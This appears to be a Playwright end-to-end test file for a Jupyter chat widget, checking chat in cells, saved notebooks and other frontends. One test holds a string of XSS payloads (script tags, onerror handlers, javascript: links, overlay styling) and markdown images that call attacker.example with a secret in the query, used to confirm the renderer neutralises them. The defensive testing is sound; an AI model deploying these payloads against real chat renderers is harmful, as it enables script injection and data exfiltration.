"""`ChatPanel` in output cells, in a browser that gets nothing from BestChat's own server."""

from __future__ import annotations

import json
import time
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Locator, Page, expect

from bestchat_server_ext.testing.script import Say, Wait

MAKE = "from bestchat_kernel import ChatPanel\npanel = ChatPanel()\npanel"


class Widget:
    """The panel in a cell, as somebody would use it."""

    def __init__(self, page: Page) -> None:
        self.page = page
        self.root = page.locator(".jp-BestChat-widget").first

    @property
    def composer(self) -> Locator:
        return self.root.get_by_role("textbox", name="Message")

    @property
    def questions(self) -> Locator:
        return self.root.locator(".jp-BestChat-question")

    @property
    def answers(self) -> Locator:
        return self.root.locator(".jp-BestChat-answer")

    def ask(self, text: str) -> None:
        self.composer.fill(text)
        self.composer.press("Enter")

    def choose(self, model: str) -> None:
        self.root.locator(".jp-BestChat-pickerButton").click()
        self.root.get_by_role("combobox", name="Search models").fill(model)
        self.root.get_by_role("option").first.click()

    def ends(self, state: str = "finished") -> Locator:
        answer = self.answers.last
        expect(answer).to_have_attribute("data-turn-state", state, timeout=30_000)
        return answer


@pytest.fixture
def alone(page: Page) -> Page:
    """A page on which BestChat's server cannot be reached."""
    page.set_viewport_size({"width": 1280, "height": 900})
    page.route("**/bestchat/api/**", lambda route: route.abort())
    page.route_web_socket("**/bestchat/api/**", lambda socket: socket.close())
    return page


def open_lab(page: Page, url: str) -> None:
    """Open a notebook in JupyterLab, and wait for its kernel."""
    page.goto(f"{url}&reset")  # no notebook of another test
    page.wait_for_function("() => window.jupyterapp !== undefined", timeout=60_000)
    page.evaluate("async () => { await window.jupyterapp.restored }")
    page.wait_for_function(
        """() => {
            const kernel = window.jupyterapp.shell.currentWidget?.sessionContext?.session?.kernel;
            return kernel?.connectionStatus === "connected" && kernel?.status === "idle";
        }""",
        timeout=60_000,
    )


def run_all(page: Page) -> None:
    page.evaluate("() => { window.jupyterapp.commands.execute('notebook:run-all-cells') }")


def written(lab: Any, name: str, *sources: str) -> Path:
    """A notebook with these cells."""
    cells = [
        {
            "cell_type": "code",
            "id": f"cell-{index}",
            "source": source,
            "metadata": {},
            "outputs": [],
            "execution_count": None,
        }
        for index, source in enumerate(sources)
    ]
    content = {
        "cells": cells,
        "metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3"}},
        "nbformat": 4,
        "nbformat_minor": 5,
    }
    path = Path(lab.notebooks) / f"{name}.ipynb"
    path.write_text(json.dumps(content), encoding="utf-8")
    return path


def test_a_whole_chat_in_a_cell(alone: Page, lab: Any) -> None:
    written(lab, "chat", "%load_ext bestchat_kernel", MAKE, "%%chat\nfrom a cell", "panel.messages")
    open_lab(alone, lab.page("lab/tree/chat.ipynb"))
    run_all(alone)
    widget = Widget(alone)
    expect(widget.composer).to_be_visible(timeout=60_000)
    # What a cell said is here, and what is said here is the cells'.
    expect(widget.questions).to_have_text(["from a cell"], timeout=30_000)
    widget.ask("from the widget")
    expect(widget.questions).to_have_count(2)
    expect(widget.ends()).to_contain_text("from the widget")
    lab.script("slow", (Say("As far as **this**"), Wait(600), Say(" and no further.")))
    widget.choose("slow")
    widget.ask("and stop")
    expect(widget.answers.last.locator("strong")).to_have_text("this")
    widget.root.get_by_role("button", name="Stop").click()
    expect(widget.ends("cancelled").locator("strong")).to_have_text("this")


HOSTILE = """<script>window.bad = 1</script><img src=x onerror="window.bad = 2">

<a href="javascript:window.bad = 3">click</a> [click](javascript:window.bad=4)

![seen](https://attacker.example/seen.png?q=secret)

<style>body { display: none }</style><div class="jp-Dialog" style="position:fixed">over all</div>

```html
<img src=x onerror="window.bad = 5">
```

| <b>x</b> | `<i>` |
| --- | --- |
| ![t](https://attacker.example/t.png) | 1 |
"""


def test_what_models_say_does_nothing(alone: Page, lab: Any) -> None:
    asked: list[str] = []
    alone.on("request", lambda request: asked.append(request.url))
    model = lab.script("hostile", (Say(HOSTILE),), chunk=7)
    written(lab, "hostile", MAKE, f"panel.send('be bad', model={model!r}); None")
    open_lab(alone, lab.page("lab/tree/hostile.ipynb"))
    run_all(alone)
    widget = Widget(alone)
    answer = widget.ends()
    expect(answer.locator("table")).to_be_visible()
    expect(answer).to_contain_text("window.bad = 1")
    assert alone.evaluate("() => window.bad") is None
    assert [url for url in asked if "attacker" in url] == []
    inside = answer.locator(".jp-BestChat-prose")
    assert inside.locator("img, script, style, iframe, [onerror], [style], .jp-Dialog").count() == 0
    links = inside.locator("a[href]")
    assert {link.get_attribute("href") for link in links.all()} == {
        "https://attacker.example/seen.png?q=secret",
        "https://attacker.example/t.png",
    }
    assert {link.get_attribute("rel") for link in links.all()} == {"noopener noreferrer nofollow"}


def test_a_saved_notebook_shows_what_was_said_without_its_kernel(alone: Page, lab: Any) -> None:
    path = written(lab, "saved", MAKE, "panel.send('keep **this**').text")
    open_lab(alone, lab.page("lab/tree/saved.ipynb"))
    run_all(alone)
    widget = Widget(alone)
    expect(widget.ends().locator("strong")).to_have_text("this", timeout=60_000)
    alone.evaluate(
        """async () => {
            const { commands, shell } = window.jupyterapp;
            await commands.execute("@jupyter-widgets/jupyterlab-manager:saveWidgetState");
            await commands.execute("docmanager:save");
            await shell.currentWidget.sessionContext.shutdown();
            // For the tests that come after this one.
            await commands.execute("@jupyter-widgets/jupyterlab-manager:saveWidgetState");
        }"""
    )
    saved = json.loads(path.read_text(encoding="utf-8"))
    states = saved["metadata"]["widgets"]["application/vnd.jupyter.widget-state+json"]["state"]
    assert "keep **this**" in json.dumps(states)
    # Opened again: whatever kernel is there has never heard of it.
    open_lab(alone, lab.page("lab/tree/saved.ipynb"))
    again = Widget(alone)
    expect(again.questions).to_have_text(["keep **this**"], timeout=30_000)
    expect(again.answers.locator("strong")).to_have_text("this")
    expect(again.root).to_contain_text("No kernel answers")
    expect(again.composer).to_have_count(0)
    alone.evaluate(
        "async () => { await window.jupyterapp.shell.currentWidget.sessionContext.shutdown() }"
    )
    expect(again.answers.locator("strong")).to_have_text("this")


# Elsewhere: these have environments of their own, see `make test-versions`.


def until_a_kernel_is_idle(page: Page, lab: Any, seconds: float = 60) -> None:
    """Wait for the notebook's kernel, as the server sees it: what is run before is lost."""
    until = time.monotonic() + seconds
    headers = {"Authorization": "token secret"}
    path = "classic.ipynb"
    while True:
        sessions = page.request.get(f"{lab.url}api/sessions", headers=headers).json()
        kernels = [it["kernel"] for it in sessions if it["path"] == path]
        if any(it["execution_state"] == "idle" and it["connections"] for it in kernels):
            return
        assert time.monotonic() < until, sessions
        page.wait_for_timeout(50)


def test_in_notebook_7(alone: Page, lab: Any) -> None:
    pytest.importorskip("notebook")
    written(lab, "classic", MAKE)
    alone.goto(lab.page("notebooks/classic.ipynb"))
    until_a_kernel_is_idle(alone, lab)
    alone.get_by_role("menuitem", name="Run", exact=True).click(timeout=60_000)
    alone.get_by_role("menuitem", name="Run All Cells", exact=True).click()
    widget = Widget(alone)
    widget.ask("from Notebook")
    expect(widget.ends()).to_contain_text("from Notebook")
    expect(alone.locator("body")).to_have_attribute("data-notebook", "notebooks")


def test_in_voila(alone: Page, lab: Any) -> None:
    pytest.importorskip("voila")
    written(lab, "application", MAKE)
    alone.goto(lab.page("voila/render/application.ipynb"))
    widget = Widget(alone)
    widget.ask("from Voilà")
    expect(widget.ends()).to_contain_text("from Voilà")
    assert alone.locator(".jp-InputArea").count() == 0  # an application, and no notebook
